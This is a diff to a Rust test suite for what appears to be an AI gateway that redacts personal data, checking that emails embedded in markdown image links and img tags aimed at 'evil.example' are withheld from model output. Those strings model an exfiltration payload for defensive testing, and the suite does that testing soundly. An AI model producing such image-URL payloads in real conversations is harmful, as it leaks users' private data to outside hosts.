@@ -124,13 +124,14 @@ async fn guesses_of_an_attacker_get_nothing_back() {
 async fn an_address_on_the_web_gets_nothing_back_unless_the_operator_says_so() {
     let upstream = Upstream::start().await;
     upstream.acts(Script::Choose(parrot));
-    let text =
-        format!("![x](https://evil.example/?q= {EMAIL}) <img src=\"https://evil.example/{EMAIL}\"> {EMAIL}");
+    let text = format!(
+        "![x](https://evil.example/?q= {EMAIL}) <img src=\"https://evil.example/?q={EMAIL}\"> {EMAIL}"
+    );
     let gate = gate_before(&upstream, "[vault]\nmode = \"request\"\n").await;
     let said = content(&gate.post(CHAT, &chat(&text)).await);
     // White space ends the first address; the second goes on to its quote.
     assert_eq!(said.matches(EMAIL).count(), 2, "{said}");
-    assert!(said.contains("evil.example/[EMAIL_1_"), "{said}");
+    assert!(said.contains("evil.example/?q=[EMAIL_1_"), "{said}");
     assert_eq!(gate.metric("aimds_vault_places_total{what=\"withheld\"}").await, 1.0);
     let gate = gate_before(&upstream, "[vault]\nmode = \"request\"\nrestore_in_urls = true\n").await;
     assert_eq!(content(&gate.post(CHAT, &chat(&text)).await), text);
@@ -231,7 +232,7 @@ async fn too_many_values_are_redacted_for_good_and_counted() {
 async fn lookalikes_are_no_alarm_in_the_answer_and_come_back() {
     let upstream = Upstream::start().await;
     upstream.acts(Script::Choose(parrot));
-    let policy = "version = 1\n[findings.user]\n\"pii.email\" = \"redact\"\n\"pii.credit_card\" = \"redact\"\n[findings.model]\n\"pii.*\" = \"block\"\n";
+    let policy = "version = 1\n[findings.user]\n\"pii.email\" = \"redact\"\n\"pii.credit_card\" = \"redact\"\n[findings.model]\n\"pii.email\" = \"block\"\n\"pii.credit_card\" = \"block\"\n";
     let config = format!("{}[vault]\nmode = \"request\"\nplaceholders = \"lookalike\"\n", upstream.config());
     let gate = gate_with(&config, policy, None).await;
     let text = format!("Mail {EMAIL} about 4111 1111 1111 1111 today");
